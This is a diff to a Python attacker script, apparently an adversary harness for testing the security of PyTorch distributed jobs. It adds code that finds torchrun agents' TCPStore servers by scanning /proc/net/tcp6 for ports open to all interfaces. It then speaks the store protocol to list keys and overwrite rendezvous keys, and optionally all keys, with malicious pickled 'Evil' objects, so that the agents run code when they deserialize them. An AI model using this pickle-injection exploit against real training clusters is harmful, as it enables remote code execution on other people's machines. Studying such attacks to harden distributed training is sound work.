@@ -4,6 +4,7 @@ The attacker knows what is public: where the job's store listens, the names of i
 and this source. What it is to do comes from standard input as JSON; what came of it goes to standard output.
 """
 
+import base64
 import collections
 import itertools
 import json
@@ -48,6 +49,10 @@ DRIP_EVERY = 0.2  # seconds
 LIMIT = struct.pack("<Q", 1000)
 AGENT_HELLO = struct.pack("<BI", 0, 0x3C85F7CE)  # of torch's TCPStore, as all that follows
 AGENT_SET = b"\1"
+AGENT_LIST = b"\x11"
+AGENT_KEYS = ["torch.rendezvous.none", "torch.rendezvous.attacked"]  # where agents look that meet by c10d
+LISTENS = "0A"  # a state in /proc/net/tcp
+LOOPBACK = "127.0.0.1"
 SQUATTED = "squat"  # in the names that other attackers have taken
 MANY = b"x" * (1 << 18)
 
@@ -355,6 +360,28 @@ def tell(address, number):
     return b""
 
 
+def plant(address, number):
+    """Leave a pickle in a store of torchrun's agents: where they look for one, and by turns in all other keys too."""
+    evil = pickle.dumps(Evil(), protocol=number % (pickle.HIGHEST_PROTOCOL + 1))
+    value = [evil, base64.b64encode(evil)][number // 6 % 2]  # last as the agents would read it
+    with connect(address) as guest:
+        guest.sendall(AGENT_HELLO + AGENT_LIST)
+        yield
+        found = list_of(guest)
+        keys = {key for key in found if b"torch.rendezvous." in key or SETTINGS["plants"] == "everywhere"}
+        keys |= {b"/" + key.encode() for key in AGENT_KEYS}
+        guest.sendall(b"".join(AGENT_SET + sized(key) + sized(value) for key in keys) + AGENT_LIST)
+        yield
+        list_of(guest)  # what was said before has been heard
+    return b""
+
+
+def list_of(guest):
+    """Return the keys that a store of torch lists, to everybody who asks."""
+    (number,) = struct.unpack("<Q", read(guest, 8))
+    return [read(guest, struct.unpack("<Q", read(guest, 8))[0]) for _ in range(number)]
+
+
 def sized(field):
     return struct.pack("<Q", len(field)) + field
 
@@ -394,6 +421,20 @@ def wait_for_doors():
         time.sleep(PAUSE)
 
 
+def wait_for_agents():
+    """Return where something listens to all interfaces, as the stores of torchrun's agents do, as soon as it does."""
+    until = time.monotonic() + CROWD_PATIENCE
+    while not (found := [(LOOPBACK, port) for port in ports_open_to_all()]) and time.monotonic() < until:
+        time.sleep(PAUSE)
+    return found
+
+
+def ports_open_to_all():
+    rows = [row.split() for row in Path("/proc/net/tcp6").read_text().splitlines()[1:]]
+    local = [row[1].split(":") for row in rows if row[3] == LISTENS]
+    return [int(port, 16) for address, port in local if not address.strip("0")]
+
+
 def known_doors():
     return resolved(SETTINGS["addresses"]) or names_of_stores()
 
@@ -410,6 +451,8 @@ def main():
     names = SETTINGS["kinds"]
     if doors:
         results |= attack(doors, {name: one for name, one in kinds().items() if names is None or name in names})
+    if SETTINGS["plants"] and (agents := wait_for_agents()):
+        results |= attack(agents, {"pickles in the agents' stores": plant})
     if doors and SETTINGS["agent"]:
         results |= attack(doors, {"false answers in the agent's store": tell})
     if doors and SETTINGS["crowd"]:
